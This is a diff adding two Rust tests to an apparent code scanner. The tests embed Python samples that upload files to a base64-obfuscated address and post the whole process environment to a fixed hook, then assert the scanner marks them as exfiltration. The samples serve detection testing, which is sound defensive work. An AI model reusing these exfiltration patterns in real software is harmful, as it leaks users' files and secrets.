@@ -398,3 +398,46 @@ def update(url):
     let f = run("tool/updater.py", FileRole::Module, src);
     assert!(critical(&f).contains(&"download-exec"), "{f:#?}");
 }
+
+#[test]
+fn upload_to_an_encoded_address_is_critical() {
+    let src = r#"
+import base64, aiohttp
+
+async def send_archives(paths, address="aHR0cDovLzEyNy4wLjAuMTo5L3VwbG9hZA=="):
+    async with aiohttp.ClientSession() as session:
+        for p in paths:
+            with open(p, "rb") as f:
+                async with session.post(base64.b64decode(address).decode("utf-8"), data={"file": f}) as r:
+                    await r.text()
+"#;
+    let f = run("tool/sync.py", FileRole::Module, src);
+    assert!(critical(&f).contains(&"exfiltration"), "{f:#?}");
+    // the same upload to an address in plain sight is a capability
+    let benign = src.replace("base64.b64decode(address).decode(\"utf-8\")", "\"https://uploads.example.org/v1\"");
+    let f = run("tool/sync.py", FileRole::Module, &benign);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
+
+#[test]
+fn collected_environment_pushed_by_a_helper_to_a_fixed_hook_is_critical() {
+    let src = r#"
+import os, json, urllib.request
+
+def push_secrets(url, data):
+    req = urllib.request.Request(url, data=json.dumps(data).encode(), headers={"Content-Type": "application/json"})
+    with urllib.request.urlopen(req, timeout=10) as r:
+        return r.status
+
+def main():
+    hook = "http://127.0.0.1:9/hook"
+    collected = {"env": dict(os.environ)}
+    push_secrets(hook, collected)
+"#;
+    let f = run("tool/cli.py", FileRole::Module, src);
+    assert!(critical(&f).contains(&"exfiltration"), "{f:#?}");
+    // the helper posting a version report to the same kind of address
+    let benign = src.replace("{\"env\": dict(os.environ)}", "{\"version\": \"1.0\"}");
+    let f = run("tool/cli.py", FileRole::Module, &benign);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
